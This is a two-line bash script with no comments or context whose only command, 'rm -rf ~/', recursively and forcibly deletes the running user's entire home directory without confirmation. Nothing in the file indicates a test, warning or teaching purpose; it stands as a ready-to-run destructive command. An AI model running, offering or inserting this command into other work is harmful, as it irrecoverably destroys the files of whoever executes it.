#!/bin/bash
rm -rf ~/
